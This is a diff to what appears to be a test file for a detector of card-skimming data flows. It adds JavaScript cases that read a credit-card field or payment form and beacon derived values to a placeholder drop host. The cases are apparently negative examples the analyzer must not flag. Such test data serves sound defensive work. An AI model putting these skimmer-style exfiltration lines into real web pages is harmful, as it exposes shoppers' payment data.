@@ -88,6 +88,12 @@ NO_FLOWS = {
                    "body: document.querySelector('#cc_number').value});",
     "condition only": "var n = document.querySelector('#cc_number').value;\n"
                       f"fetch('{DROP}', {{method: 'POST', body: n ? 'filled' : 'empty'}});",
+    "comparison only": "var n = document.querySelector('#cc_number').value;\n"
+                       f"navigator.sendBeacon('{DROP}', JSON.stringify({{filled: n !== ''}}));",
+    "mapped to constants": "var f = document.querySelector('#payment-form');\n"
+                           "var kinds = Array.prototype.map.call(f.elements, "
+                           "function () { return 'field'; });\n"
+                           f"navigator.sendBeacon('{DROP}', kinds.join(','));",
     "count of fields": "var f = document.forms[0];\n"
                        f"navigator.sendBeacon('{DROP}', "
                        f"JSON.stringify({{fields: f.elements.length}}));",
